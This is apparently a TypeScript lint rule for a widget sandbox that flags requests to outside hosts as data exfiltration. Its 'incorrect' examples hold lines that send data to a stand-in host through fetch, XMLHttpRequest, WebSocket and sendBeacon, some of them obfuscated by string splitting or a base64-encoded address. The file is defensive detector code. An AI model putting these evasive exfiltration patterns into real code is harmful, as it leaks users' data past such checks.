import type { Node } from "estree";
import { defineRule, outsideHost } from "../../contracts/index.js";
import { requestAddress } from "./request-calls.js";

export const outsideRequest = defineRule({
  kind: "javascript",
  meta: {
    id: "network/outside-request",
    category: "data_exfiltration",
    severity: "block",
    title: "A request to an outside address",
    description: "Sends a request to another host. A widget has no network; whatever it needs comes through window.gro.",
    messages: {
      outside: {
        text: "{via} sends a request to {host}.",
        fix: "Remove the request. Data comes from window.gro.context, changes go through window.gro.",
      },
    },
    examples: {
      incorrect: [
        'fetch("https://collect.example/in", { method: "POST", body: data })',
        'const request = new XMLHttpRequest(); request.open("POST", "https://collect.example"); request.send(data)',
        'new WebSocket("wss://collect.example/live")',
        'navigator.sendBeacon("//collect.example/b", data)',
        'self["fet" + "ch"](`https://collect.example/${id}`)',
        'fetch.call(window, "https:" + "//collect.example")',
        'const { sendBeacon } = navigator; const host = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGU="); navigator.sendBeacon(host, 1)',
      ],
      correct: ['fetch("/data.json")', "function load(url) { return fetch(url) }", 'const documentation = "https://docs.example/fetch"'],
    },
  },
  create({ file, report }) {
    const visit = (node: Node & { start: number; end: number }): void => {
      const request = requestAddress(file, node);
      const host = request && outsideHost(file.prefixOf(request.address) ?? "");
      if (request && host !== undefined) report({ messageId: "outside", at: node, data: { via: request.via, host } });
    };
    return { CallExpression: visit, NewExpression: visit };
  },
});
